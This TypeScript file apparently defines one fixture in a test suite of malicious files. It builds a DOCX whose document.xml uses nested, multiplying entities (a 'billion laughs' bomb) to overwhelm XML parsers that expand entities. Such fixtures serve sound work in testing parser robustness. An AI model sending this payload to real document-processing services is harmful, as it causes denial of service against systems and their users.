// An XML parser that expands entities makes a trillion words of one line.
import { buildFileBomb } from "../../families/file-bomb.ts";
import { LAUGHS } from "../../laughs.ts";
import { DOCX, DOCX_PARTS } from "../../office-parts.ts";
import { buildZip } from "../../zip.ts";

export const fileDocxEntities = buildFileBomb({
  name: "file-docx-entities",
  attack: "a text document with entities that multiply (billion laughs)",
  type: DOCX,
  build: () =>
    buildZip([
      ...DOCX_PARTS,
      {
        name: "word/document.xml",
        data: Buffer.from(
          `<?xml version="1.0"?>${LAUGHS}<w:document xmlns:w="x"><w:body><w:p>&l12;</w:p></w:body></w:document>`,
        ),
      },
    ]),
});
